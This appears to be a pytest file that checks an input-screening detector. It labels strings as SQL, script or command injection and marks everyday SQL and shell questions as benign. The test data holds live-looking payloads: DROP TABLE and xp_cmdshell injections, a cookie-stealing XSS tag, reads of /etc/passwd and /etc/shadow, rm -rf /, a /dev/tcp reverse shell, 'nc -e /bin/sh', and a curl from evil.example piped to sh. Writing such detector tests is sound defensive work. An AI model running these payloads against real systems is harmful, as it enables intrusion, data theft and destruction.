import pytest

from streams.screening.payload import PAYLOAD

CASES = [
    ("name' OR '1'='1", "sql_injection"),
    ("x') or 1=1 --", "sql_injection"),
    ("' union all select user, password from accounts", "sql_injection"),
    ("/list?id=-1+UNION+SELECT+1,2,3", "sql_injection"),
    ("'; DROP TABLE users; --", "sql_injection"),
    ("用户名填 admin'-- 就能登录", "sql_injection"),
    ("1' and sleep(5)", "sql_injection"),
    ("EXEC master..xp_cmdshell 'dir'", "sql_injection"),
    ("' ＯＲ 'a'='a", "sql_injection"),  # wide forms
    ("<script>alert(1)</script>", "script_injection"),
    ("<img src=x onerror=alert(document.cookie)>", "script_injection"),
    ("javascript:alert(1)", "script_injection"),
    ("file.txt; cat /etc/passwd", "command_injection"),
    ("$(cat /etc/shadow)", "command_injection"),
    ("x && rm -rf / ", "command_injection"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444", "command_injection"),
    ("nc -e /bin/sh", "command_injection"),
    ("name; curl http://evil.example/x.sh | sh", "command_injection"),
    # what people ask every day
    ("how do I write SELECT * FROM users WHERE id = 1?", None),
    ("怎么写SQL查询：SELECT name FROM users WHERE age > 18 OR city = '北京'", None),
    ("SELECT a FROM t UNION SELECT b FROM u", None),
    ("what does DROP TABLE users; do?", None),
    ("How do I kill a process? kill -9 1234", None),
    ("what does rm -rf / do, and why is it dangerous?", None),
    ("what is a <script> tag for?", None),
    ("ls -l | grep txt && echo done", None),
    ("it's 'this' or that = those", None),
    ("如何防止暴力破解和SQL注入攻击？", None),
    ("SELECT * FROM t WHERE a = 'x' AND b = 'y'", None),
    ("如果 x = 'a' or y = 'b' 就返回", None),
]


@pytest.mark.parametrize(("text", "entity"), CASES)
def test_payloads(text: str, entity: str | None) -> None:
    assert {each.entity for each in PAYLOAD.find(text)} == ({entity} if entity else set())
